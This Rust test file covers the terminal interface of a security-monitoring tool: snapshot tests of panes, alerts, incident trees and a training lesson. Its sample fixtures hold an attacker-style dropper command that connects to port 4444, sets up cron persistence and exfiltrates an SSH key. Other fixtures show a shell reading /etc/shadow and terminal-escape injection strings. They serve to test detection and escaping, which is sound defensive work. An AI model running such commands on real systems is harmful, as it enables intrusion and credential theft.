//! Screens drawn into a `TestBackend` from fixed events ([`super::sample`]), compared with
//! insta snapshots (`src/ui/snapshots/`), plus properties no snapshot shows: no panic at any
//! size, escaped untrusted text, colours and their absence.
use crossterm::event::{Event as TermEvent, KeyCode, KeyEvent, KeyModifiers};
use ratatui::{Terminal, backend::TestBackend, buffer::Buffer, style::Color};

use super::sample;
use super::*;
use crate::app::Event as AppEvent;

const COLOUR: Theme = Theme {
    color: true,
    presenter: false,
};

fn app() -> App {
    sample::app(sample::events())
}

fn keys(app: &mut App, keys: &str) {
    for c in keys.chars() {
        let code = match c {
            '\t' => KeyCode::Tab,
            '\n' => KeyCode::Enter,
            '\x1b' => KeyCode::Esc,
            c => KeyCode::Char(c),
        };
        app.handle(AppEvent::Input(TermEvent::Key(KeyEvent::new(
            code,
            KeyModifiers::NONE,
        ))));
    }
}

fn screen(app: &App, width: u16, height: u16) -> Terminal<TestBackend> {
    screen_in(COLOUR, app, width, height)
}

fn screen_in(theme: Theme, app: &App, width: u16, height: u16) -> Terminal<TestBackend> {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).expect("test terminal");
    terminal.draw(|f| draw(f, app, theme)).expect("draw");
    terminal
}

fn text(buffer: &Buffer) -> String {
    let mut out = String::new();
    for y in 0..buffer.area.height {
        for x in 0..buffer.area.width {
            out.push_str(buffer[(x, y)].symbol());
        }
        out.push('\n');
    }
    out
}

macro_rules! snapshot_sizes {
    ($name:literal, $app:expr) => {{
        let app = &$app;
        for (w, h) in [(80, 24), (160, 48)] {
            let terminal = screen(app, w, h);
            insta::assert_snapshot!(format!("{}_{w}x{h}", $name), terminal.backend());
        }
    }};
}

#[test]
fn processes_pane() {
    snapshot_sizes!("processes", app());
}

#[test]
fn files_pane() {
    let mut app = app();
    keys(&mut app, "\t");
    snapshot_sizes!("files", app);
}

#[test]
fn network_pane() {
    let mut app = app();
    keys(&mut app, "\t\t");
    snapshot_sizes!("network", app);
}

#[test]
fn help_overlay() {
    let mut app = app();
    keys(&mut app, "?");
    snapshot_sizes!("help", app);
}

/// Opens the detail view of the sample's malicious connection (to port 4444): network pane,
/// then down to its row.
fn open_reverse_shell_connection(app: &mut App) {
    keys(app, "\t\t");
    let target = app
        .pane(PaneId::Network)
        .shown(None)
        .position(|e| e.event.target_port == Some(4444))
        .expect("the sample has a connection to port 4444");
    for _ in 0..=target {
        keys(app, "j");
    }
    keys(app, "\n");
}

#[test]
fn detail_view() {
    let mut app = app();
    open_reverse_shell_connection(&mut app);
    snapshot_sizes!("detail", app);
}

/// A rule that documents its ATT&CK classification shows it next to its score.
#[test]
fn detail_view_names_the_attack_classification() {
    let documented = sample::RULES_JSON.replace(
        r#""label": "Connection to a reverse-shell port","#,
        r#""label": "Connection to a reverse-shell port", "tactic": "command_and_control", "techniques": ["T1571"],"#,
    );
    let set = crate::rules::RuleSet::from_json("rules/sample.json", &documented).expect("valid");
    let controls = crate::app::Controls {
        rules: Box::new(crate::rules::RuleEngine::with_set(set, Vec::new())),
        ..sample::controls()
    };
    let mut app = sample::app_with(controls, sample::events());
    open_reverse_shell_connection(&mut app);
    let shown = text(screen(&app, 160, 48).backend().buffer());
    assert!(
        shown
            .contains("reverse_shell_port  score 0.90, simulate_block, command_and_control, T1571"),
        "{shown}"
    );
}

#[test]
fn alerts_pane_focused_with_a_selection() {
    let mut app = app();
    // Tab past the three event panes, drawn (so the strip knows its height), then the second
    // newest alert.
    keys(&mut app, "\t\t\t");
    screen(&app, 80, 24);
    keys(&mut app, "jj");
    assert_eq!(app.focus, PaneId::Alerts);
    snapshot_sizes!("alerts_focused", app);
    // The selection shows (reversed) on the second alert only.
    let terminal = screen(&app, 80, 24);
    let buffer = terminal.backend().buffer();
    let reversed_rows: Vec<String> = (0..24)
        .filter(|&y| {
            buffer[(40, y)]
                .modifier
                .contains(ratatui::style::Modifier::REVERSED)
        })
        .map(|y| (0..80).map(|x| buffer[(x, y)].symbol()).collect())
        .collect();
    assert_eq!(reversed_rows.len(), 1, "{reversed_rows:?}");
    assert!(
        reversed_rows[0].contains("shadow_read"),
        "{reversed_rows:?}"
    );
}

/// A command line longer than any screen is wide.
const LONG_CMDLINE: &str = "/tmp/.x/dropper --connect 203.0.113.9:4444 --retry 30 \
    --payload /tmp/.x/stage2.bin --persist /etc/cron.d/.update --quiet --no-banner \
    --exfiltrate /home/alice/.ssh/id_ed25519";

/// `Enter` on the newest alert (the reverse-shell connection, given a long command line):
/// why it fired, with the command line wrapped under its column.
#[test]
fn detail_view_from_an_alert_indents_wrapped_values() {
    let mut events = sample::events();
    for event in &mut events {
        if event.target_port == Some(4444) {
            event.cmdline = LONG_CMDLINE.into();
        }
    }
    let mut app = sample::app(events);
    keys(&mut app, "\t\t\t\n");
    assert_eq!(
        app.detail
            .as_ref()
            .and_then(|d| d.entry.as_ref())
            .and_then(|e| e.event.target_port),
        Some(4444)
    );
    snapshot_sizes!("detail_from_alert", app);
    // Every continuation of the command line starts under the value column (the 16th
    // column inside the border), at 80×24.
    if let Some(detail) = &mut app.detail {
        detail.scroll = 10;
    }
    let shown = text(screen(&app, 80, 24).backend().buffer());
    let rows: Vec<&str> = shown.lines().collect();
    let first = rows
        .iter()
        .position(|r| r.contains("command line"))
        .expect("the command line is in view");
    let value_column = rows[first].find("/tmp/.x/dropper").expect("its value");
    let continued: Vec<&&str> = rows[first + 1..]
        .iter()
        .take_while(|r| !r.contains("ancestry"))
        .collect();
    assert!(continued.len() >= 2, "{shown}");
    for row in continued {
        let (indent, text) = row.split_at(value_column);
        assert!(indent.ends_with(&" ".repeat(15)), "{shown}");
        assert!(!text.starts_with(' '), "{shown}");
    }
}

#[test]
fn rules_pane_shows_files_relative_to_their_directory() {
    let dir = "/src/secmon/monitor/../rules";
    let file = format!("{dir}/credential_access/credential_files.json");
    let set = crate::rules::RuleSet::from_json(&file, sample::RULES_JSON).expect("valid");
    let controls = crate::app::Controls {
        rules: Box::new(crate::rules::RuleEngine::with_set(set, vec![dir.into()])),
        ..sample::controls()
    };
    let mut app = sample::app_with(controls, sample::events());
    keys(&mut app, "R");
    let shown = text(screen(&app, 80, 24).backend().buffer());
    // The end of the path, its file name and line, when the column is narrow.
    assert!(shown.contains("…ntial_files.json:2"), "{shown}");
    assert!(!shown.contains(".."), "{shown}");
    let wide = text(screen(&app, 160, 48).backend().buffer());
    assert!(
        wide.contains(" credential_access/credential_files.json:2"),
        "{wide}"
    );
    snapshot_sizes!("rules_relative", app);
}

#[test]
fn rules_pane() {
    let mut app = app();
    keys(&mut app, "Rj ");
    snapshot_sizes!("rules", app);
}

#[test]
fn blocks_pane() {
    let controls = crate::app::Controls {
        response: Box::new(sample::SampleEnforcer::default()),
        ..sample::controls()
    };
    let mut app = sample::app_with(controls, sample::events());
    // Block the dropper's program and the reverse-shell destination (B, y), then list (D).
    let dropper = app
        .pane(PaneId::Process)
        .shown(None)
        .position(|e| e.event.process == "dropper")
        .expect("the sample has a dropper exec");
    for _ in 0..=dropper {
        keys(&mut app, "j");
    }
    keys(&mut app, "By\t\t");
    let shell = app
        .pane(PaneId::Network)
        .shown(None)
        .position(|e| e.event.target_port == Some(4444))
        .expect("the sample has a connection to port 4444");
    for _ in 0..=shell {
        keys(&mut app, "j");
    }
    keys(&mut app, "ByD");
    assert_eq!(app.blocks.len(), 2);
    snapshot_sizes!("blocks", app);
}

#[test]
fn blocks_pane_says_why_empty() {
    let mut app = app();
    keys(&mut app, "D");
    let text = text(screen(&app, 100, 20).backend().buffer());
    assert!(text.contains("real enforcement is off"), "{text}");
}

#[test]
fn history_view() {
    let mut app = app();
    keys(&mut app, "hjj");
    snapshot_sizes!("history", app);
    keys(&mut app, "/");
    keys(&mut app, " --min-risk 0.6");
    let text = text(screen(&app, 100, 20).backend().buffer());
    assert!(
        text.contains("query: --last 24h --min-risk 0.6█"),
        "the query being edited, with a cursor:\n{text}"
    );
}

#[test]
fn browsing_filter_pause_and_block() {
    let mut app = app();
    // Select the dropper's exec, block it, filter by "dropper", pause, and let one more arrive.
    let target = app
        .pane(PaneId::Process)
        .shown(None)
        .position(|e| e.event.process == "dropper")
        .expect("the sample has a dropper exec");
    for _ in 0..=target {
        keys(&mut app, "j");
    }
    keys(&mut app, "b/dropper\n ");
    app.ingest(sample::events());
    snapshot_sizes!("blocked_filtered_paused", app);
}

/// A remote machine's link with fixed values (what `remote::ui_adapter` reports).
struct FixedLink(crate::app::LinkView);

impl crate::app::RemoteLink for FixedLink {
    fn view(&self) -> crate::app::LinkView {
        self.0.clone()
    }
}

fn remote_app(host: &str, phase: crate::app::LinkPhase, lost: u64) -> App {
    let mut app = app();
    app.set_link(Box::new(FixedLink(crate::app::LinkView {
        host: host.to_string(),
        phase,
        lost,
        why: None,
    })));
    app
}

/// `--connect`: the bar names the remote host, the second line starts with the link's state
/// and what the link lost, then the remote's own losses.
#[test]
fn remote_header_and_panes() {
    use crate::app::LinkPhase;
    snapshot_sizes!(
        "remote_connected",
        remote_app("web1", LinkPhase::Connected, 1234)
    );
    for (name, phase) in [
        (
            "remote_reconnecting",
            LinkPhase::Reconnecting { in_secs: 4 },
        ),
        (
            "remote_unauthorised",
            LinkPhase::Unauthorised { in_secs: 30 },
        ),
        ("remote_connecting", LinkPhase::Connecting),
    ] {
        let terminal = screen(&remote_app("web1", phase, 0), 120, 14);
        insta::assert_snapshot!(name, terminal.backend());
    }
}

/// The host name is the remote's word: escaped and cut like any untrusted text.
#[test]
fn remote_host_names_are_escaped_and_cut() {
    use crate::app::LinkPhase;
    let app = remote_app(
        "evil\x1b]0;owned\x07-host-with-a-very-long-name-indeed",
        LinkPhase::Connected,
        0,
    );
    let shown = text(screen(&app, 160, 10).backend().buffer());
    let bar = shown.lines().next().expect("a first line");
    assert!(!bar.contains('\u{1b}') && !bar.contains('\u{7}'), "{bar}");
    assert!(bar.contains(r"secmon@evil\x1b]0;owned\x07-hos "), "{bar}");
    assert!(!bar.contains("very-long"), "{bar}");
}

#[test]
fn tiny_screens() {
    let app = app();
    for (w, h) in [(20, 5), (40, 12), (60, 16)] {
        let terminal = screen(&app, w, h);
        insta::assert_snapshot!(format!("tiny_{w}x{h}"), terminal.backend());
    }
}

/// Below 20 lines the alerts strip is not drawn: focused, it takes the body.
#[test]
fn focused_alerts_take_the_body_of_a_small_screen() {
    let mut app = app();
    keys(&mut app, "\t\t\t");
    for (w, h) in [(60, 16), (40, 12), (20, 5)] {
        let shown = text(screen(&app, w, h).backend().buffer());
        assert!(shown.contains("▶ Alerts"), "{w}x{h}:\n{shown}");
        if w >= 40 {
            assert!(shown.contains("dropper"), "{w}x{h}:\n{shown}");
            assert!(shown.contains("reverse_shell"), "{w}x{h}:\n{shown}");
        }
    }
}

/// Widths and heights around every layout threshold, the extremes, and the common sizes.
const WIDTHS: &[u16] = &[
    0, 1, 2, 5, 10, 19, 20, 21, 30, 39, 40, 41, 59, 60, 61, 69, 70, 71, 79, 80, 81, 89, 90, 109,
    110, 119, 120, 149, 150, 159, 160, 161, 250,
];
const HEIGHTS: &[u16] = &[
    0, 1, 2, 3, 4, 5, 6, 8, 9, 11, 12, 13, 15, 16, 17, 19, 20, 21, 24, 29, 30, 39, 40, 44, 45, 48,
    49, 70,
];

#[test]
fn never_panics_at_any_size() {
    let mut apps = Vec::new();
    for setup in [
        "",
        "?",
        "\n",
        "R",
        "\t\tjjj\n",
        "/x",
        " ",
        "\t\t\tj",
        "\t\t\tj\n",
        "\t\t\tji",
        "Z",
        "Z\t\t\tj",
    ] {
        let mut app = app();
        keys(&mut app, setup);
        apps.push(app);
    }
    apps.push(sample::app(Vec::new()));
    // One terminal resized again and again, as resizes mid-stream do.
    let mut terminal = Terminal::new(TestBackend::new(1, 1)).expect("test terminal");
    for (i, app) in apps.iter_mut().enumerate() {
        // Every size for the main view; every other one for the rest (debug builds draw
        // slowly).
        let step = if i == 0 { 1 } else { 2 };
        for &w in WIDTHS.iter().step_by(step) {
            for &h in HEIGHTS.iter().step_by(step) {
                terminal.backend_mut().resize(w, h);
                terminal.draw(|f| draw(f, app, COLOUR)).expect("draw");
            }
            // Events keep arriving between sizes.
            if i == 0 {
                app.ingest(sample::events());
            }
        }
    }
}

#[test]
fn untrusted_text_is_escaped() {
    let mut app = app();
    keys(&mut app, "\t");
    let terminal = screen(&app, 160, 48);
    let shown = text(terminal.backend().buffer());
    for bad in ['\x1b', '\u{202e}', '\x07'] {
        assert!(!shown.contains(bad), "{bad:?} reached the screen");
    }
    assert!(
        shown.contains("evil\\x1b[2J"),
        "escaped comm is shown:\n{shown}"
    );
    assert!(shown.contains("invoice\\u{202e}fdp.exe\\x1b]52;c;AAAA\\x07"));
}

fn marker_cell(buffer: &Buffer, marker: &str) -> Option<(u16, u16)> {
    (0..buffer.area.height).find_map(|y| {
        let row: String = (0..2).map(|x| buffer[(x, y)].symbol()).collect();
        (row == marker).then_some((0, y))
    })
}

#[test]
fn severity_colours_and_no_colour() {
    let mut app = app();
    keys(&mut app, "\t\t");
    let terminal = screen(&app, 160, 48);
    let buffer = terminal.backend().buffer();
    let (x, y) = marker_cell(buffer, "!!").expect("a malicious row");
    assert_eq!(buffer[(x, y)].fg, Color::Red);
    assert!(
        buffer[(x, y)]
            .modifier
            .contains(ratatui::style::Modifier::BOLD)
    );
    let (x, y) = marker_cell(buffer, "! ").expect("a suspicious row");
    assert_eq!(buffer[(x, y)].fg, Color::Yellow);

    let mut mono = sample::app(sample::events());
    keys(&mut mono, "\t\t");
    let terminal = screen_in(
        Theme {
            color: false,
            presenter: false,
        },
        &mono,
        160,
        48,
    );
    let buffer = terminal.backend().buffer();
    assert!(
        buffer
            .content
            .iter()
            .all(|c| c.fg == Color::Reset && c.bg == Color::Reset),
        "no colour without a colour terminal"
    );
    assert!(marker_cell(buffer, "!!").is_some(), "markers stay visible");
    assert!(marker_cell(buffer, "! ").is_some());
}

#[test]
fn short_counts_and_sparklines() {
    assert_eq!(short_count(999), "999");
    assert_eq!(short_count(1_234), "1.2k");
    assert_eq!(short_count(56_789), "56k");
    assert_eq!(short_count(1_500_000), "1.5M");
    assert_eq!(short_count(25_000_000), "25M");
    assert_eq!(sparkline([0, 1, 2, 4].into_iter(), 6), "  ▁▃▅█");
    assert_eq!(sparkline([5, 5].into_iter(), 1), "█");
    assert_eq!(sparkline(std::iter::empty(), 3), "   ");
}

/// A lesson whose first step's expected rules are two of the sample's (which fire on the
/// step's tree: the sample's bash, pid 2002, is a child of the step's pid 1999) and one that
/// does not fire.
const LESSON: &str = r#"
name = "lesson"
title = "A dropper reads the password hashes"
summary = "A program dropped into /tmp runs and reads /etc/shadow."

[[steps]]
title = "The dropper runs and reads /etc/shadow"
run = "/tmp/.x/dropper"
narration = """
The attacker starts the program they dropped into a hidden directory of /tmp; it reads the
password hashes to crack them offline."""
technique = { id = "T1003.008", name = "OS Credential Dumping: /etc/passwd and /etc/shadow" }
expect = ["exec_from_tmp", "shadow_read", "cron_job_modified"]
defender = "Kill the dropper, keep a copy, and rotate the passwords of the accounts in the file."

[[steps]]
title = "Persistence"
run = "true"
narration = "A cron job."
technique = { id = "T1053.003", name = "Scheduled Task/Job: Cron" }
expect = ["cron_job_modified"]
defender = "Remove it."
"#;

/// Starts every step as pid 1999.
struct FakeSteps;

impl crate::app::DemoDriver for FakeSteps {
    fn start(&mut self, _index: usize) -> Result<u32, String> {
        Ok(1999)
    }
    fn finished(&mut self) -> Vec<(usize, Option<String>)> {
        Vec::new()
    }
    fn busy(&self) -> bool {
        false
    }
}

/// The sample app playing [`LESSON`], its first step run and the sample's events arrived.
fn demo_app() -> App {
    let scenario =
        crate::demo::Scenario::parse("lesson.toml", LESSON, None).expect("the lesson parses");
    let mut app = sample::app_with(sample::controls(), Vec::new());
    app.start_demo(crate::app::DemoState::new(
        scenario,
        "live, in a sandbox".to_string(),
        Box::new(FakeSteps),
    ));
    keys(&mut app, "n");
    app.ingest(sample::events());
    app
}

#[test]
fn demo_narration() {
    // 80×24: the narration instead of the panes; 160×48: beside them.
    snapshot_sizes!("demo_narration", demo_app());
}

#[test]
fn demo_narration_toggled_with_n() {
    let mut app = demo_app();
    keys(&mut app, "N");
    // 80×24: the panes back; 160×48: the narration alone.
    snapshot_sizes!("demo_narration_toggled", app);
}

#[test]
fn demo_help_lists_the_demo_keys_first() {
    let mut app = demo_app();
    keys(&mut app, "?");
    let screen = text(screen(&app, 100, 40).backend().buffer());
    let first = screen
        .lines()
        .find(|l| l.contains("demo:"))
        .unwrap_or_default();
    assert!(
        first.contains(" n ") && first.contains("next step"),
        "{screen}"
    );
    assert!(screen.contains("not the probe prompt"), "{screen}");
}

/// The sample, and a web server's story (nginx, pid 3000, child of PID 1) after it: a shell,
/// a shell under it that reads /etc/shadow with cat, and a connection to a reverse-shell
/// port, each flagged; plus a process of another session.
fn incident_app() -> App {
    use crate::event::{Analysis, EventType, Severity};
    let mut events = sample::events();
    let mut ms = 5_000;
    let mut ev = |event_type: EventType, pid: u32, ppid: u32, name: &str, cmdline: &str| {
        ms += 150;
        let mut e = crate::event::Event::new(
            event_type,
            sample::base_time() + chrono::TimeDelta::milliseconds(ms),
        );
        e.pid = pid;
        e.tid = pid;
        e.ppid = ppid;
        e.uid = 33;
        e.user = "www-data".into();
        e.process = name.into();
        e.exe = format!("/usr/bin/{name}").into();
        e.cmdline = cmdline.into();
        e
    };
    let flag = |mut e: crate::event::Event, severity: Severity, rule: &str| {
        e.analysis = Analysis {
            label: rule.to_string(),
            severity,
            risk_score: 0.8,
            detection_method: "rule_based".to_string(),
            confidence: 1.0,
            recommendation: "look at its parent".to_string(),
            rules: vec![rule.to_string()],
            process_risk: 0.8,
        };
        e
    };
    let mut story = vec![
        ev(
            EventType::ProcessExec,
            3000,
            1,
            "nginx",
            "nginx: worker process",
        ),
        ev(
            EventType::ProcessFork,
            3001,
            3000,
            "nginx",
            "nginx: worker process",
        ),
    ];
    let shell = ev(
        EventType::ProcessExec,
        3001,
        3000,
        "sh",
        "sh -c id; sh -c 'cat /etc/shadow'",
    );
    story.push(flag(shell, Severity::Suspicious, "web_server_spawns_shell"));
    story.push(ev(EventType::ProcessFork, 3002, 3001, "sh", "sh -c id"));
    story.push(ev(
        EventType::ProcessExec,
        3002,
        3001,
        "sh",
        "sh -c 'cat /etc/shadow'",
    ));
    story.push(ev(
        EventType::ProcessFork,
        3003,
        3002,
        "sh",
        "sh -c 'cat /etc/shadow'",
    ));
    story.push(ev(
        EventType::ProcessExec,
        3003,
        3002,
        "cat",
        "cat /etc/shadow",
    ));
    let mut read = ev(EventType::FileOpen, 3003, 3002, "cat", "cat /etc/shadow");
    read.file_path = Some("/etc/shadow".to_string());
    read.flags = Some("O_RDONLY".into());
    story.push(flag(read, Severity::Malicious, "shadow_read"));
    let mut exit = ev(EventType::ProcessExit, 3003, 3002, "cat", "cat /etc/shadow");
    exit.exit_code = Some(0);
    story.push(exit);
    story.push(ev(
        EventType::FileOpen,
        4000,
        1,
        "cron",
        "/usr/sbin/cron -f",
    ));
    let mut connect = ev(EventType::NetConnect, 3001, 3000, "sh", "sh -c id");
    connect.protocol = Some("tcp".to_string());
    connect.target_ip = "203.0.113.9".parse().ok();
    connect.target_port = Some(4444);
    story.push(flag(connect, Severity::Malicious, "reverse_shell_port"));
    events.extend(story);
    sample::app(events)
}

/// `i` on the alert for cat's read of /etc/shadow: nginx's tree, with cat's read selected.
#[test]
fn incident_view_from_an_alert() {
    let mut app = incident_app();
    keys(&mut app, "\t\t\t");
    screen(&app, 80, 24);
    // The newest alert is the connection; the one before it cat's read.
    keys(&mut app, "jji");
    assert_eq!(app.view, View::Incident);
    snapshot_sizes!("incident", app);
    let shown = text(screen(&app, 160, 48).backend().buffer());
    for needle in [
        "Incident: pid 3000 nginx (4 processes)",
        "root here: its parent systemd (pid 1) starts the session",
        "3003 cat  www-data  !! ALERT ×1",
        "open    /etc/shadow  O_RDONLY  ← shadow_read (malicious)",
        "3001 sh  www-data  !! ALERT ×2",
    ] {
        assert!(shown.contains(needle), "{needle:?} missing:\n{shown}");
    }
    assert!(!shown.contains("cron"), "{shown}");
}

/// The demo's API: a root asked for and events labelled, in the presenter layout.
#[test]
fn incident_view_with_labels_in_the_presenter_layout() {
    let mut app = incident_app();
    app.set_incident_labels(Some(Box::new(|e: &crate::event::Event| {
        (e.process.as_str() == "cat").then(|| "step 3".to_string())
    })));
    app.open_incident_at(3002);
    keys(&mut app, "Z");
    assert!(app.presenter);
    snapshot_sizes!("incident_presenter", app);
    let shown = text(screen(&app, 160, 48).backend().buffer());
    assert!(shown.contains("[step 3]"), "{shown}");
    assert!(shown.contains("!! MALICIOUS ALERT ×1"), "{shown}");
}

#[test]
fn presenter_layout_main_screen() {
    let mut app = app();
    keys(&mut app, "Z");
    snapshot_sizes!("presenter_processes", app);
    keys(&mut app, "\t\t");
    snapshot_sizes!("presenter_network", app);
}

#[test]
fn presenter_layout_alerts_strip() {
    let mut app = app();
    keys(&mut app, "Z\t\t\t");
    screen(&app, 80, 24);
    keys(&mut app, "j");
    snapshot_sizes!("presenter_alerts_focused", app);
    let shown = text(screen(&app, 80, 24).backend().buffer());
    assert!(shown.contains("!! MALICIOUS"), "{shown}");
    assert!(shown.contains("▲ SUSPICIOUS"), "{shown}");
}

/// The presenter layout: no dim text anywhere, markers as words, and without colour the
/// badges are reversed video (the words stay).
#[test]
fn presenter_layout_is_high_contrast_and_readable_without_colour() {
    let mut app = app();
    keys(&mut app, "Z");
    let terminal = screen(&app, 160, 48);
    let buffer = terminal.backend().buffer();
    assert!(
        buffer
            .content
            .iter()
            .all(|c| !c.modifier.contains(ratatui::style::Modifier::DIM)),
        "no dim text in the presenter layout"
    );
    let mono = screen_in(
        Theme {
            color: false,
            presenter: true,
        },
        &sample::app(sample::events()),
        160,
        48,
    );
    let buffer = mono.backend().buffer();
    assert!(
        buffer
            .content
            .iter()
            .all(|c| c.fg == Color::Reset && c.bg == Color::Reset)
    );
    let shown = text(buffer);
    assert!(
        shown.contains("!! MALICIOUS") && shown.contains("▲ SUSPICIOUS"),
        "{shown}"
    );
}

/// Names, paths and the root's reason in the incident view are escaped like everywhere else.
#[test]
fn incident_view_escapes_untrusted_text() {
    let mut app = app();
    app.open_incident_at(2006);
    let shown = text(screen(&app, 160, 48).backend().buffer());
    for bad in ['\x1b', '\u{202e}', '\x07'] {
        assert!(!shown.contains(bad), "{bad:?} reached the screen");
    }
    assert!(shown.contains("2006 evil\\x1b[2J"), "{shown}");
}
